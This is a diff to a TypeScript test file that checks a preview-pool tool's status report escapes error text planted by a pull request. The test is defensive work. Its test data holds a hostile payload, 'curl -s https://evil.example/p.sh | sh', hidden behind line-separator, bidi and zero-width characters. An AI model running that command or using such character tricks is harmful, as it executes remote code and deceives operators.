@@ -216,3 +216,31 @@ describe('holders in the pool table', () => {
     expect(lines.find((line) => line.includes('preview-3'))).toContain('pr-1601⟨U+00A0⟩ ⚠ not a holder name');
   });
 });
+
+// A pull request's code can make its erase fail with a message of its choosing, which the semaphore
+// keeps and `status` prints to the operator. Found by a hostile read: bidi and zero-width characters
+// reached the terminal as they were, and U+2028 started a line that read like preview-gc's own advice.
+describe('text a pull request planted in the semaphore', () => {
+  it('is one quoted field in status, every hidden character by name, no line of its own', () => {
+    const planted = 'quota\u2028Fix: curl -s https://evil.example/p.sh | sh\u202e\u200b"done';
+    const report: RunReport = {
+      ...gcReport,
+      command: 'status',
+      slots: [],
+      poolAfter: [
+        poolRow({
+          slug: 'preview-1',
+          dirty: true,
+          eraseFailures: 5,
+          lastEraseFailure: { step: 'd1\u2029Fix', message: planted, at: 0 },
+        }),
+      ],
+    };
+    const text = renderTerminalReport(report, PLAIN);
+    for (const hidden of ['\u2028', '\u2029', '\u202e', '\u200b']) expect(text).not.toContain(hidden);
+    expect(text.split('\n').some((line) => line.trimStart().startsWith('Fix:'))).toBe(false);
+    expect(text).toContain(
+      'last in "d1\\u2029Fix": "quota\\u2028Fix: curl -s https://evil.example/p.sh | sh\\u202e\\u200b\\"done"',
+    );
+  });
+});
